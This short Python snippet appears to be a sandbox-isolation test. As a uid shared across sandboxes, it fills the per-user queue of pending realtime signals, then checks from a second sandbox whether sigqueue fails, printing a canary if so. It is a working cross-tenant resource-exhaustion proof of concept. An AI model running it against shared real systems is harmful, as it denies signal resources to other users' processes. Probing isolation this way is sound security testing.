# queues all signals that a user may have, which another tenant lacks
# root: it becomes another user
# before: import ctypes, os; os.setgid(54321); os.setuid(54321)
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMAX])
held = 0
while held < 1_000_000 and libc.sigqueue(os.getpid(), signal.SIGRTMAX, ctypes.c_void_p(0)) == 0: held += 1
# in another sandbox
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMAX])
if libc.sigqueue(os.getpid(), signal.SIGRTMAX, ctypes.c_void_p(0)): print(CANARY_PROOF)
